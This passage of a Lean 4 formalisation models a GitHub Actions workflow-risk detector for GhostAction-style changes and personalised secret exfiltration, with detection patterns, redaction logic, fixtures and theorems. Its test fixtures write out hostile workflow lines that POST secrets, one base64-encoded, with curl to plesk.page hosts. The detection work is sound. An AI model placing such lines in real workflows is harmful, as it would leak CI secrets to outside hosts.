  (l.head? = some '-' &&
    (match (l.drop 1).head? with
     | some x => asciiLower x = 'x' &&
         (let r := l.drop 2
          ciStartsWith "POST".data (r.drop (r.takeWhile pyIsSpace).length))
     | none => false)) ||
  ciStartsWith "--data".data l ||
  (ciStartsWith "-d".data l &&
    (match (l.drop 2).head? with
     | some c => pyIsSpace c
     | none => false))

def postFlagSearch (l : List Char) : Bool :=
  (List.range (l.length + 1)).any (fun i => postFlagAt (l.drop i))

/-- `PERMISSIONS_WRITE_RE = \b(contents|id-token|pull-requests)\s*:\s*write\b`
(ignore-case), matched at the head given the previous character. -/
def permWriteAt (prev : Option Char) (l : List Char) : Bool :=
  (match prev with
   | none => true
   | some p => !isWordChar p) &&
  ["contents".data, "id-token".data, "pull-requests".data].any (fun kw =>
    ciStartsWith kw l &&
      (let r1 := l.drop kw.length
       let r2 := r1.drop (r1.takeWhile pyIsSpace).length
       r2.head? = some ':' &&
         (let r3 := r2.drop 1
          let r4 := r3.drop (r3.takeWhile pyIsSpace).length
          ciStartsWith "write".data r4 &&
            (match (r4.drop 5).head? with
             | none => true
             | some c => !isWordChar c))))

def permWriteSearchAux : Option Char → List Char → Bool
  | _, [] => false
  | prev, c :: cs => permWriteAt prev (c :: cs) || permWriteSearchAux (some c) cs

def permWriteSearch (l : List Char) : Bool := permWriteSearchAux none l

/-- `TOJSON_SECRETS_RE = toJSON\(\s*secrets\s*\)` (ignore-case). -/
def toJsonSecretsAt (l : List Char) : Bool :=
  ciStartsWith "toJSON(".data l &&
    (let r1 := l.drop 7
     let r2 := r1.drop (r1.takeWhile pyIsSpace).length
     ciStartsWith "secrets".data r2 &&
       (let r3 := r2.drop 7
        (r3.drop (r3.takeWhile pyIsSpace).length).head? = some ')'))

def toJsonSecretsSearch (l : List Char) : Bool :=
  (List.range (l.length + 1)).any (fun i => toJsonSecretsAt (l.drop i))

/-- `USES_RE = uses:\s*([^\s@]+)@([^\s]+)` (ignore-case): the refs captured
by the second group across `finditer`. -/
def usesRefsAux : Nat → List Char → List (List Char)
  | 0, _ => []
  | _, [] => []
  | fuel + 1, c :: cs =>
    let l := c :: cs
    if ciStartsWith "uses:".data l then
      let r1 := l.drop 5
      let r2 := r1.drop (r1.takeWhile pyIsSpace).length
      let g1 := r2.takeWhile (fun ch => !pyIsSpace ch && ch ≠ '@')
      if g1.isEmpty then usesRefsAux fuel cs
      else
        match (r2.drop g1.length).head? with
        | some '@' =>
          let r3 := r2.drop (g1.length + 1)
          let g2 := r3.takeWhile (fun ch => !pyIsSpace ch)
          if g2.isEmpty then usesRefsAux fuel cs
          else g2 :: usesRefsAux fuel (r3.drop g2.length)
        | _ => usesRefsAux fuel cs
    else usesRefsAux fuel cs

def usesRefs (l : List Char) : List (List Char) := usesRefsAux l.length l

/-- `re.fullmatch(r"[0-9a-f]{40}", ref, re.IGNORECASE)`. -/
def isHex40 (r : List Char) : Bool :=
  r.length = 40 && r.all (fun c =>
    isAsciiDigit c || ('a' ≤ c && c ≤ 'f') || ('A' ≤ c && c ≤ 'F'))

/-- `re.fullmatch(r"v\d+", ref)` (case-sensitive). -/
def isVNum (r : List Char) : Bool :=
  match r with
  | 'v' :: rest => !rest.isEmpty && rest.all isAsciiDigit
  | _ => false

/-- `_uses_unpinned_action`. -/
def uses_unpinned_action (l : List Char) : Bool :=
  (usesRefs l).any (fun ref =>
    ref = "main".data || ref = "master".data || ref = "v1".data ||
    isVNum ref || !isHex40 ref)

/-! ### Redaction -/

/-- The replacement text of the `SECRET_EXPR_RE` substitution. -/
def redactedExpr : List Char := "$\x7b\x7b secrets.REDACTED \x7d\x7d".data

/-- The replacement text of the `SECRET_RE` substitution. -/
def redactedRef : List Char := "secrets.REDACTED".data

/-- First pass of `_redact_secrets`: `SECRET_EXPR_RE.sub(...)`. -/
def subSecretExprAux : Nat → List Char → List Char
  | 0, l => l
  | _, [] => []
  | fuel + 1, c :: cs =>
    match matchSecretExprAt (c :: cs) with
    | some (_, len) => redactedExpr ++ subSecretExprAux fuel ((c :: cs).drop len)
    | none => c :: subSecretExprAux fuel cs

def subSecretExpr (l : List Char) : List Char := subSecretExprAux l.length l

/-- Second pass of `_redact_secrets`: `SECRET_RE.sub(...)`. -/
def subSecretAux : Nat → List Char → List Char
  | 0, l => l
  | _, [] => []
  | fuel + 1, c :: cs =>
    let l := c :: cs
    if List.isPrefixOf "secrets.".data l &&
        !((l.drop 8).takeWhile isSecretNameChar).isEmpty then
      let name := (l.drop 8).takeWhile isSecretNameChar
      redactedRef ++ subSecretAux fuel (l.drop (8 + name.length))
    else c :: subSecretAux fuel cs

def subSecret (l : List Char) : List Char := subSecretAux l.length l

/-- `_redact_secrets`. -/
def redact_secrets (l : List Char) : List Char := subSecret (subSecretExpr l)

/-! ### Snippet and evidence-line extraction -/

/-- Shared loop of `_extract_snippets` / `_extract_evidence_lines`: collect
redacted-and-stripped matching lines, stopping once `maxLines` are held
(the Python loop breaks as soon as `len(matches) >= max_lines`). -/
def extractLinesAux (keep : List Char → Bool) (maxLines : Nat) :
    List (List Char) → List (List Char) → List (List Char)
  | [], acc => acc.reverse
  | line :: rest, acc =>
    let acc' := if keep line then pyStrip (redact_secrets line) :: acc else acc
    if acc'.length ≥ maxLines then acc'.reverse
    else extractLinesAux keep maxLines rest acc'

def snippetKeep (line : List Char) : Bool :=
  secretSearch line || exfilToolSearch line || urlSearch line ||
    triggerSearch line || permWriteSearch line

/-- `_extract_snippets` (max 3 lines). -/
def extract_snippets (text : List Char) (maxLines : Nat) : List (List Char) :=
  extractLinesAux snippetKeep maxLines (pySplitlines text) []

def evidenceKeep (line : List Char) : Bool :=
  secretSearch line || exfilToolSearch line || postFlagSearch line ||
    base64Search line || urlSearch line || containsSub iocWorkflowName.data line

/-- `_extract_evidence_lines` (max 8 lines). -/
def extract_evidence_lines (text : List Char) (maxLines : Nat) : List (List Char) :=
  extractLinesAux evidenceKeep maxLines (pySplitlines text) []

/-- `_hash_secret_name`: first 10 hex chars of the SHA-1. -/
def hash_secret_name (name : String) : String :=
  String.mk ((sha1Hex name).data.take 10)

/-! ### Workflow text analysis -/

structure WfAnalysis where
  secret_ref_count : Nat
  external_domains : List String
  ioc_domains : List String
  matched_indicators : List String
  score : Nat
  snippets : List String
deriving Repr, DecidableEq

/-- `analyze_workflow_text`. -/
def analyze_workflow_text (text : List Char) : WfAnalysis :=
  let secret_refs := secretFindAll text
  let secret_ref_count := secret_refs.length
  let urls := urlFindAll text
  let externalDoms := external_domains urls
  let has_exfil_tool := exfilToolSearch text
  let has_post := postFlagSearch text
  let has_suspicious_trigger := triggerSearch text
  let has_permissions_write := permWriteSearch text
  let has_self_hosted := runnerSearch text
  let has_unpinned_action := uses_unpinned_action text
  let lowered := lowerList text
  let has_suspicious_step := containsSub "security".data lowered ||
    containsSub "audit".data lowered || containsSub "scanner".data lowered
  let ioc_domains := externalDoms.filter isIocDomain
  let matched_indicators :=
    (if secret_ref_count ≠ 0 then ["secrets_reference"] else []) ++
    (if has_suspicious_trigger then ["suspicious_trigger"] else []) ++
    (if has_permissions_write then ["permissions_write"] else []) ++
    (if has_self_hosted then ["self_hosted_runner"] else []) ++
    (if has_unpinned_action then ["unpinned_action_ref"] else []) ++
    (if has_suspicious_step then ["suspicious_step_name"] else []) ++
    (if has_exfil_tool && !externalDoms.isEmpty then ["exfil_tool_with_external_url"] else []) ++
    (if has_post then ["post_body_exfil"] else []) ++
    (if !ioc_domains.isEmpty then ["known_ioc_domain"] else [])
  let score :=
    (min secret_ref_count 5) * 8 +
    (if has_suspicious_trigger then 12 else 0) +
    (if has_permissions_write then 12 else 0) +
    (if has_self_hosted then 10 else 0) +
    (if has_unpinned_action then 10 else 0) +
    (if has_suspicious_step then 6 else 0) +
    (if has_exfil_tool && !externalDoms.isEmpty then 20 else 0) +
    (if has_post then 10 else 0) +
    (if !ioc_domains.isEmpty then 25 else 0)
  { secret_ref_count := secret_ref_count
    external_domains := externalDoms
    ioc_domains := ioc_domains
    matched_indicators := matched_indicators
    score := score
    snippets := (extract_snippets text 3).map String.mk }

/-! ### Push events, Forge oracle and budget-threaded detectors

The async GitHub client becomes an oracle record; a `none` result models a
raised exception (or a missing/undecodable payload).  `St` threads the
shared `FetchBudget` together with a counter of Forge API calls issued. -/

structure St where
  budget : Int
  calls : Nat
deriving Repr, DecidableEq

def stTake (st : St) : Bool × St :=
  let p := budgetTake st.budget
  (p.1, { st with budget := p.2 })

structure Forge where
  commit_files : String → String → Option (List String)
  contents : String → String → String → Option String
  workflow_dir : String → String → Option (List (String × String))
  user : String → Option String
  permission : String → String → Option String

structure PushCommit where
  sha : Option String := none
  added : List String := []
  modified : List String := []
  removed : List String := []
deriving Repr, DecidableEq

structure GEvent where
  type : String
  repo_name : Option String := none
  actor_login : Option String := none
  created_at : Option String := none
  head : Option String := none
  before : Option String := none
  after : Option String := none
  commits : List PushCommit := []
deriving Repr, DecidableEq

/-- `_is_workflow_path`. -/
def is_workflow_path (path : String) : Bool :=
  path ≠ "" && List.isPrefixOf ".github/workflows/".data path.data &&
    (List.isSuffixOf ".yml".data path.data || List.isSuffixOf ".yaml".data path.data)

/-- `repo_full_name.split("/", 1)` after the truthiness / slash guards. -/
def repoSplit (ev : GEvent) : Option (String × String × String) :=
  match strTruthy ev.repo_name with
  | none => none
  | some full =>
    if full.data.contains '/' then
      some (String.mk (full.data.takeWhile (fun c => c ≠ '/')),
            String.mk ((full.data.dropWhile (fun c => c ≠ '/')).drop 1),
            full)
    else none

/-- `_get_commit_files` (one budget unit; exception ⇒ `none`). -/
def get_commit_files (f : Forge) (repo sha : String) (st : St) :
    Option (List String) × St :=
  let t := stTake st
  if !t.1 then (none, t.2)
  else (f.commit_files repo sha, { t.2 with calls := t.2.calls + 1 })

/-- `_get_workflow_text` (one budget unit; exception, missing content or
non-base64 encoding ⇒ `none`). -/
def get_workflow_text (f : Forge) (repo path sha : String) (st : St) :
    Option String × St :=
  let t := stTake st
  if !t.1 then (none, t.2)
  else (f.contents repo path sha, { t.2 with calls := t.2.calls + 1 })

/-- `_list_workflow_files` (one budget unit). -/
def list_workflow_files (f : Forge) (repo ref : String) (st : St) :
    List String × St :=
  let t := stTake st
  if !t.1 then ([], t.2)
  else
    let st1 := { t.2 with calls := t.2.calls + 1 }
    match f.workflow_dir repo ref with
    | none => ([], st1)
    | some items =>
      (items.filterMap (fun it =>
        if it.1 = "file" && is_workflow_path it.2 then some it.2 else none), st1)

/-- The per-path loop of `_collect_known_secrets`. -/
def collectSecretsLoop (f : Forge) (repo ref : String) :
    List String → St → List (List Char) → List (List Char) × St
  | [], st, acc => (acc, st)
  | path :: rest, st, acc =>
    let r := get_workflow_text f repo path ref st
    match r.1 with
    | none => collectSecretsLoop f repo ref rest r.2 acc
    | some t =>
      if t = "" then collectSecretsLoop f repo ref rest r.2 acc
      else collectSecretsLoop f repo ref rest r.2 (acc ++ secretExprFindAll t.data)

/-- `_collect_known_secrets`. -/
def collect_known_secrets (f : Forge) (repo ref : String) (st : St) :
    List String × St :=
  let lw := list_workflow_files f repo ref st
  let r := collectSecretsLoop f repo ref (lw.1.take 10) lw.2 []
  (sortedSet (r.1.map String.mk), r.2)

/-- `_fetch_actor_context` (its user `type` is the only field read
downstream; the optional permission call only spends budget). -/
def fetch_actor_context (f : Forge) (repo login : String) (st : St) :
    Option String × St :=
  if login = "" then (none, st)
  else
    let t := stTake st
    if !t.1 then (none, t.2)
    else
      let st1 := { t.2 with calls := t.2.calls + 1 }
      match f.user login with
      | none => (none, st1)
      | some utype =>
        let t2 := stTake st1
        if t2.1 then
          let r := f.permission repo login
          let st2 := { t2.2 with calls := t2.2.calls + 1 }
          (some ((fun _ => utype) r), st2)
        else (some utype, t2.2)

/-- `sha = c.get("sha") or head_sha`. -/
def commitSha (ev : GEvent) (c : PushCommit) : Option String :=
  match strTruthy c.sha with
  | some s => some s
  | none => strTruthy ev.head

/-- The in-payload `(sha, path)` pairs of `detect_ghostaction_risk`. -/
def ghostPayloadPaths (ev : GEvent) : List (String × String) :=
  ev.commits.flatMap (fun c =>
    match commitSha ev c with
    | none => []
    | some sha =>
      (c.added ++ c.modified ++ c.removed).filterMap (fun p =>
        if is_workflow_path p then some (sha, p) else none))

/-- Workflow paths for GhostAction: in-payload lists, else one commit-files
fetch at the head SHA. -/
def ghostResolvePaths (f : Forge) (full : String) (ev : GEvent) (st : St) :
    List (String × String) × St :=
  let paths := ghostPayloadPaths ev
  if paths.isEmpty then
    match strTruthy ev.head with
    | some head =>
      let r := get_commit_files f full head st
      match r.1 with
      | none => ([], r.2)
      | some files =>
        if files.isEmpty then ([], r.2)
        else
          (files.filterMap (fun fn =>
            if is_workflow_path fn then some (head, fn) else none), r.2)
    | none => ([], st)
  else (paths, st)

/-- The text-fetch loop of `detect_ghostaction_risk` (skips failed fetches
and empty texts, exactly as `if not text: continue`). -/
def ghostTextsLoop (f : Forge) (full : String) :
    List (String × String) → St → List String → List String × St
  | [], st, acc => (acc, st)
  | (sha, path) :: rest, st, acc =>
    let r := get_workflow_text f full path sha st
    match r.1 with
    | none => ghostTextsLoop f full rest r.2 acc
    | some t =>
      if t = "" then ghostTextsLoop f full rest r.2 acc
      else ghostTextsLoop f full rest r.2 (acc ++ [t])

/-- Aggregation over the fetched texts (lines 306–321). -/
def ghostAnalyses (texts : List String) : List WfAnalysis :=
  texts.map (fun t => analyze_workflow_text t.data)

def ghostIndicators (texts : List String) : List String :=
  (ghostAnalyses texts).flatMap (fun a => a.matched_indicators)

def ghostSecretCount (texts : List String) : Nat :=
  ((ghostAnalyses texts).map (fun a => a.secret_ref_count)).sum

def ghostScore (texts : List String) : Nat :=
  ((ghostAnalyses texts).map (fun a => a.score)).foldl max 0

def ghostDomains (texts : List String) : List String :=
  (ghostAnalyses texts).flatMap (fun a => a.external_domains)

def ghostSnippets (texts : List String) : List String :=
  (ghostAnalyses texts).flatMap (fun a => a.snippets)

/-- The emission decision of `detect_ghostaction_risk` over the fetched
texts: `some severity` iff an incident is built. -/
def ghostEmitDecision (texts : List String) (threshold : Nat) : Option String :=
  if (ghostIndicators texts).isEmpty then none
  else if ghostSecretCount texts > 0 || ghostScore texts ≥ threshold then
    some (if ghostScore texts ≥ 80 then "critical" else "high")
  else none

structure GhostIncident where
  incident_id : String
  kind : String
  run_id : Int
  dedupe_key : String
  repo_full_name : String
  workflow_name : String
  status : String
  conclusion : String
  html_url : String
  created_at : Option String
  title : String
  tags : List String
  ev_sha : Option String
  ev_actor : Option String
  ev_workflow_paths : List String
  ev_secret_ref_count : Nat
  ev_external_domains : List String
  ev_matched_indicators : List String
  ev_snippets : List String
  ev_actor_context_type : Option String
deriving Repr, DecidableEq

/-- `str(head_sha)` as rendered into the f-string dedupe key. -/
def headStr (h : Option String) : String :=
  match h with
  | none => "None"
  | some s => s

/-- `detect_ghostaction_risk` (threshold = `GHOSTACTION_SCORE_THRESHOLD`). -/
def detect_ghostaction_risk (f : Forge) (ev : GEvent) (threshold : Nat)
    (st : St) : List GhostIncident × St :=
  if ev.type ≠ "PushEvent" then ([], st)
  else
    match repoSplit ev with
    | none => ([], st)
    | some (_owner, _name, full) =>
      let rp := ghostResolvePaths f full ev st
      if rp.1.isEmpty then ([], rp.2)
      else
        let tl := ghostTextsLoop f full rp.1 rp.2 []
        let texts := tl.1
        let st1 := tl.2
        match ghostEmitDecision texts threshold with
        | none => ([], st1)
        | some severity =>
            let score := ghostScore texts
            let dk := "ghostaction:" ++ full ++ ":" ++ headStr ev.head
            let actorTag :=
              match ev.actor_login with
              | some a => if List.isSuffixOf "[bot]".data (lowerList a.data)
                  then "bot" else "user"
              | none => "user"
            let tags := ["security", "ghostaction", "risk:" ++ severity,
              "signals:" ++ String.intercalate ","
                (sortedSet (ghostIndicators texts)),
              "actor:" ++ actorTag, "score:" ++ toString score]
            let ac :=
              match strTruthy ev.actor_login with
              | some login => fetch_actor_context f full login st1
              | none => (none, st1)
            ([{ incident_id := sha1Hex dk
                kind := "ghostaction_risk"
                run_id := wx_stable_run_id dk
                dedupe_key := dk
                repo_full_name := full
                workflow_name := "workflow_change"
                status := "detected"
                conclusion := severity
                html_url := "https://github.com/" ++ full ++ "/commit/" ++
                  headStr ev.head
                created_at := ev.created_at
                title := "GhostAction-style workflow risk detected in " ++ full
                tags := tags
                ev_sha := ev.head
                ev_actor := ev.actor_login
                ev_workflow_paths := sortedSet (rp.1.map (fun p => p.2))
                ev_secret_ref_count := ghostSecretCount texts
                ev_external_domains := sortedSet (ghostDomains texts)
                ev_matched_indicators := sortedSet (ghostIndicators texts)
                ev_snippets := (ghostSnippets texts).take 3
                ev_actor_context_type := ac.1 }], ac.2)

/-! ### Personalized secret exfiltration -/

structure PersIncident where
  incident_id : String
  kind : String
  run_id : Int
  dedupe_key : String
  repo_full_name : String
  workflow_name : String
  status : String
  conclusion : String
  html_url : String
  created_at : Option String
  title : String
  tags : List String
  ev_sha : String
  ev_actor : Option String
  ev_workflow_path : String
  ev_overlap_secrets : List String
  ev_overlap_count : Nat
  ev_exfil_domain : Option String
  ev_confidence : String
  ev_evidence_lines : List String
deriving Repr, DecidableEq, Inhabited

/-- In-payload workflow paths of `detect_personalized_exfiltration`. -/
def persPayloadPaths (ev : GEvent) : List String :=
  ev.commits.flatMap (fun c =>
    (c.added ++ c.modified ++ c.removed).filter is_workflow_path)

/-- Workflow paths for the personalized detector (fallback fetch at the
`after` SHA). -/
def persResolvePaths (f : Forge) (full : String) (ev : GEvent) (st : St) :
    List String × St :=
  let paths := persPayloadPaths ev
  if paths.isEmpty then
    match strTruthy ev.after with
    | some head =>
      let r := get_commit_files f full head st
      match r.1 with
      | none => ([], r.2)
      | some files =>
        if files.isEmpty then ([], r.2)
        else (files.filter is_workflow_path, r.2)
    | none => ([], st)
  else (paths, st)

/-- The secret-name overlap the personalized detector computes for a head
text against the base ref's known secrets. -/
def persOverlap (text : List Char) (known : List String) : List String :=
  sortedSet ((sortedSet ((secretExprFindAll text).map String.mk)).filter
    (fun s => known.contains s))

/-- The confidence ladder of the personalized detector (the three
assignment steps of the source, over the text and the known secrets). -/
def persConfidence (text : List Char) (known : List String) : String :=
  let overlap := persOverlap text known
  let ioc_domains := (external_domains (urlFindAll text)).filter isIocDomain
  let has_ioc_name := containsSub iocWorkflowName.data text
  let conf0 := if !overlap.isEmpty then "medium" else "low"
  let conf1 :=
    if base64Search text || toJsonSecretsSearch text then
      (if conf0 = "low" then "medium" else conf0)
    else conf0
  if !ioc_domains.isEmpty || has_ioc_name then "high" else conf1

/-- The incident record the personalized detector emits for one path. -/
def persBuildIncident (full head path : String)
    (actor created_at : Option String) (known : List String) (t : String) :
    PersIncident :=
  let text := t.data
  let overlap := persOverlap text known
  let externalDoms := external_domains (urlFindAll text)
  let ioc_domains := externalDoms.filter isIocDomain
  let confidence := persConfidence text known
  let evidence_lines := (extract_evidence_lines text 8).map String.mk
  let overlap_hashes := overlap.map hash_secret_name
  let dk := "personalized_exfil:" ++ full ++ ":" ++ head ++ ":" ++ path
  { incident_id := sha1Hex dk
    kind := "personalized_secret_exfiltration"
    run_id := wx_stable_run_id dk
    dedupe_key := dk
    repo_full_name := full
    workflow_name := path
    status := "detected"
    conclusion := confidence
    html_url := "https://github.com/" ++ full ++ "/commit/" ++ head
    created_at := created_at
    title := "Personalized secret exfiltration risk in " ++ full
    tags := ["security", "workflow_injection", "secret_enumeration",
      "confidence:" ++ confidence, "overlap:" ++ toString overlap.length]
    ev_sha := head
    ev_actor := actor
    ev_workflow_path := path
    ev_overlap_secrets := overlap_hashes
    ev_overlap_count := overlap.length
    ev_exfil_domain :=
      match ioc_domains.head? with
      | some d => some d
      | none => externalDoms.head?
    ev_confidence := confidence
    ev_evidence_lines := evidence_lines }

/-- The per-path body of the personalized detector's loop.  The
`new_secrets`/`overlap` computation is `persOverlap`, the confidence chain
is `persConfidence`, and the record construction is `persBuildIncident` —
together these are a line-by-line translation of the loop body. -/
def persProcessPath (f : Forge) (full head : String) (actor created_at :
    Option String) (known : List String) (path : String) (st : St) :
    Option PersIncident × St :=
  match get_workflow_text f full path head st with
  | (none, st2) => (none, st2)
  | (some t, st2) =>
    if t = "" then (none, st2)
    else
      let text := t.data
      let has_curl := exfilToolSearch text
      let has_post := postFlagSearch text
      let urls := urlFindAll text
      let has_secret_ref := secretSearch text || toJsonSecretsSearch text
      if !(has_curl && has_post && !urls.isEmpty && has_secret_ref) then
        (none, st2)
      else
        (some (persBuildIncident full head path actor created_at known t), st2)

def persLoop (f : Forge) (full head : String) (actor created_at : Option String)
    (known : List String) :
    List String → St → List PersIncident → List PersIncident × St
  | [], st, acc => (acc, st)
  | p :: rest, st, acc =>
    let r := persProcessPath f full head actor created_at known p st
    match r.1 with
    | none => persLoop f full head actor created_at known rest r.2 acc
    | some inc => persLoop f full head actor created_at known rest r.2 (acc ++ [inc])

/-- `detect_personalized_exfiltration`. -/
def detect_personalized_exfiltration (f : Forge) (ev : GEvent) (st : St) :
    List PersIncident × St :=
  if ev.type ≠ "PushEvent" then ([], st)
  else
    match repoSplit ev with
    | none => ([], st)
    | some (_owner, _name, full) =>
      let rp := persResolvePaths f full ev st
      if rp.1.isEmpty then ([], rp.2)
      else
        match strTruthy ev.after, strTruthy ev.before with
        | some head, some base =>
          let ks := collect_known_secrets f full base rp.2
          persLoop f full head ev.actor_login ev.created_at ks.1
            (sortedSet rp.1) ks.2 []
        | _, _ => ([], rp.2)

/-- Both detectors of one new push event, sharing the budget, as in
`poll_events_loop`. -/
def pollEventDetectors (f : Forge) (thr : Nat) (ev : GEvent) (st : St) : St :=
  let g := detect_ghostaction_risk f ev thr st
  let p := detect_personalized_exfiltration f ev g.2
  p.2

/-- One poll cycle over its new events with one shared `FetchBudget`. -/
def pollCycle (f : Forge) (thr : Nat) (evs : List GEvent) (st : St) : St :=
  evs.foldl (fun s ev => pollEventDetectors f thr ev s) st

/-- The texts the GhostAction detector fetches and analyses (the fetch half
of `detect_ghostaction_risk`, same pre-checks, as a standalone value). -/
def ghostFetchedTexts (f : Forge) (ev : GEvent) (st : St) : List String :=
  if ev.type ≠ "PushEvent" then []
  else
    match repoSplit ev with
    | none => []
    | some (_owner, _name, full) =>
      let rp := ghostResolvePaths f full ev st
      if rp.1.isEmpty then []
      else (ghostTextsLoop f full rp.1 rp.2 []).1

/-- The low 63 bits of the big-endian value of the first 8 SHA-1 digest
bytes of a key. -/
def sha1Low63 (key : String) : Nat :=
  (((sha1Bytes (strBytes key)).take 8).foldl (fun acc b => acc * 256 + b) 0) %
    9223372036854775808

/-- Modelled from the spec's amended reading of the npm plugin (first
matching line wins, with the tier of that line): the comparison point for
the refinement theorem. -/
def npmFirstMatchSpec (lines : List (List Char)) : Option (List Char × Rat) :=
  match lines.find? (fun raw =>
    let l := pyStrip raw
    !l.isEmpty && (npmHighLine l || npmLowLine l)) with
  | none => none
  | some raw =>
    let l := pyStrip raw
    some (normalize_line l, if npmHighLine l then (9 : Rat) / 10 else (7 : Rat) / 10)

/-- A string leaks a secret name when some occurrence of `secrets.` is
followed by a non-empty maximal run of name characters different from
`REDACTED`.  `NoSecretLeak` is the redaction invariant of the spec: no
stored evidence string contains `secrets.<NAME>` for a non-`REDACTED`
name. -/
def NoSecretLeak (m : List Char) : Prop :=
  ∀ u w rest, m = u ++ "secrets.".data ++ w ++ rest →
    w ≠ [] → (∀ c ∈ w, isSecretNameChar c = true) →
    (rest = [] ∨ ∃ c cs, rest = c :: cs ∧ isSecretNameChar c = false) →
    w = "REDACTED".data

/-- Accumulated-potential order on detector states: calls only grow, and
the number of calls grows at most by the budget spent. -/
def StLe (post pre : St) : Prop :=
  pre.calls ≤ post.calls ∧
    post.calls + post.budget.toNat ≤ pre.calls + pre.budget.toNat

/-! ## Concrete fixtures for witnesses and scenarios -/

def c1inc : IncidentInput :=
  { incident_id := "809c19372bcdcda4ad8a2a85ae90b182492f9d94"
    kind := "ghostaction_risk"
    run_id := -7433194821654307182
    dedupe_key := some "ghostaction:org/repo:abc123"
    repo_full_name := "org/repo"
    workflow_name := "workflow_change"
    run_number := none
    status := "detected"
    conclusion := "critical"
    html_url := "https://github.com/org/repo/commit/abc123"
    created_at := "2024-01-01T00:00:00Z"
    updated_at := "2024-01-01T00:00:00Z"
    title := "GhostAction-style workflow risk detected in org/repo"
    tags := ["security", "ghostaction", "risk:critical"]
    evidence_json := "e"
    ev_actor := { actor := some "alice" } }

def c10gh : LogsForge :=
  { list_jobs_for_workflow_run := fun _ => none
    get_job_logs := fun _ => none }

def c10logs : List JobLog := [{ job_name := some "build", log_text := "npm ERR!" }]

def c10st : FetcherState :=
  { per_minute := 20, timestamps := [40, 70], cache := [(5, c10logs)],
    cache_size := 200 }


def s1m : SignalMatch :=
  { signature := "npm_auth_token_expired"
    evidence := { matched_line := some "npm ERR! code E401", run_id := some 1 }
    confidence := (9 : Rat) / 10 }

def s1c0 : CorrState := mkCorrelator 60 5 3 30

def s1r1 : Option EcoIncident × CorrState :=
  ingest s1c0 s1m "org-a/repo1" "org-a" (some 0) "sid" "live" 0
def s1r2 : Option EcoIncident × CorrState :=
  ingest s1r1.2 s1m "org-b/repo2" "org-b" (some 0) "sid" "live" 0
def s1r3 : Option EcoIncident × CorrState :=
  ingest s1r2.2 s1m "org-c/repo3" "org-c" (some 0) "sid" "live" 0
def s1r4 : Option EcoIncident × CorrState :=
  ingest s1r3.2 s1m "org-a/repo4" "org-a" (some 0) "sid" "live" 0
def s1r5 : Option EcoIncident × CorrState :=
  ingest s1r4.2 s1m "org-b/repo5" "org-b" (some 0) "sid" "live" 0


def c7ctx : RunContext :=
  { repo_full_name := "org/repo", owner := "org", run_id := 123
    html_url := "https://example.com", workflow_name := "CI"
    conclusion := "failure", updated_at := "2024-01-01T00:00:00Z"
    job_name := some "build" }

/-- A log whose first matching line is low-tier while a later line is
high-tier. -/
def c7log : String :=
  "npm ERR! code E401\naccess token expired or revoked"

def s5log : String := "2024-01-01T00:00:01Z npm ERR! code E401   \nother line"


def s5match : SignalMatch :=
  { signature := "npm_auth_token_expired"
    evidence :=
      { matched_line := some "npm ERR! code E401"
        job_name := some "build"
        step_name := none
        run_id := some 123 }
    confidence := (7 : Rat) / 10 }


/-- The S2 workflow text (suspicious trigger, write permissions,
self-hosted runner, an IOC-domain curl POST, and a secret reference). -/
def s2text : String :=
  "on: pull_request_target\npermissions:\n  contents: write\njobs:\n  build:\n    runs-on: self-hosted\n    steps:\n      - name: security scan\n        run: curl -X POST https://bold-dhawan.45-139-104-115.plesk.page/collect\n      - run: echo $\x7b\x7b secrets.PROD_KEY \x7d\x7d\n"

def s2forge : Forge :=
  { commit_files := fun _ _ => some [".github/workflows/ci.yml"]
    contents := fun _ path _ =>
      if path = ".github/workflows/ci.yml" then some s2text else none
    workflow_dir := fun _ _ => none
    user := fun _ => some "User"
    permission := fun _ _ => some "write" }

def s2event : GEvent :=
  { type := "PushEvent"
    repo_name := some "org/repo"
    actor_login := some "alice"
    created_at := some "2024-01-01T00:00:00Z"
    head := some "abc123"
    commits := [] }

def s2st : St := { budget := 5, calls := 0 }


/-- S4 base workflow: references two secrets, no exfil. -/
def s4base : String :=
  "on: push\njobs:\n  build:\n    steps:\n      - run: npm publish --token $\x7b\x7b secrets.NPM_TOKEN \x7d\x7d\n      - run: docker login -p $\x7b\x7b secrets.DOCKERHUB_TOKEN \x7d\x7d\n"

/-- S4 head workflow: curl POST to a plesk.page domain with a base64-piped
known secret. -/
def s4head : String :=
  "on: push\njobs:\n  build:\n    steps:\n      - run: echo $\x7b\x7b secrets.NPM_TOKEN \x7d\x7d | base64 | curl -X POST --data @- https://evil.plesk.page/collect\n"

def s4forge : Forge :=
  { commit_files := fun _ _ => none
    contents := fun _ path ref =>
      if path = ".github/workflows/ci.yml" then
        (if ref = "base000" then some s4base
         else if ref = "head000" then some s4head else none)
      else none
    workflow_dir := fun _ ref =>
      if ref = "base000" then some [("file", ".github/workflows/ci.yml")]
      else none
    user := fun _ => some "User"
    permission := fun _ _ => some "write" }

def s4event : GEvent :=
  { type := "PushEvent"
    repo_name := some "org/repo"
    actor_login := some "mallory"
    created_at := some "2024-01-01T00:00:00Z"
    before := some "base000"
    after := some "head000"
    commits := [{ sha := some "head000"
                  modified := [".github/workflows/ci.yml"] }] }

def s4st : St := { budget := 5, calls := 0 }

def s4incs : List PersIncident :=
  (detect_personalized_exfiltration s4forge s4event s4st).1

/-- A workflow line whose evidence extraction must redact the secret. -/
def c5text : List Char :=
  "run: curl -X POST https://e.plesk.page -d $\x7b\x7b secrets.NPM_TOKEN \x7d\x7d\necho done".data

def c5line : List Char := (extract_evidence_lines c5text 8).headI

/-! # Theorems -/

/-- C1: Incident insertion is idempotent: starting from a store with no
conflicting row, the first `insert_incident` returns true and appends
exactly one row, and a second call with the same record returns false and
leaves the store unchanged, with exactly one row carrying the incident id. -/
theorem insert_incident_idempotent (store : List IncidentRow)
    (inc : IncidentInput) (h : store.any (rowConflict inc) = false) :
    (insert_incident store inc).1 = true ∧
    (insert_incident store inc).2 = store ++ [mkIncidentRow inc] ∧
    (insert_incident (insert_incident store inc).2 inc).1 = false ∧
    (insert_incident (insert_incident store inc).2 inc).2 =
      (insert_incident store inc).2 ∧
    ((insert_incident store inc).2.countP
      (fun r => r.incident_id = inc.incident_id)) = 1 := by
  have hid : (mkIncidentRow inc).incident_id = inc.incident_id := rfl
  have h2 : (store ++ [mkIncidentRow inc]).any (rowConflict inc) = true := by
    rw [List.any_append]
    have : rowConflict inc (mkIncidentRow inc) = true := by
      simp [rowConflict, hid]
    simp [this]
  have hcount : store.countP
      (fun r => decide (r.incident_id = inc.incident_id)) = 0 := by
    rw [List.countP_eq_zero]
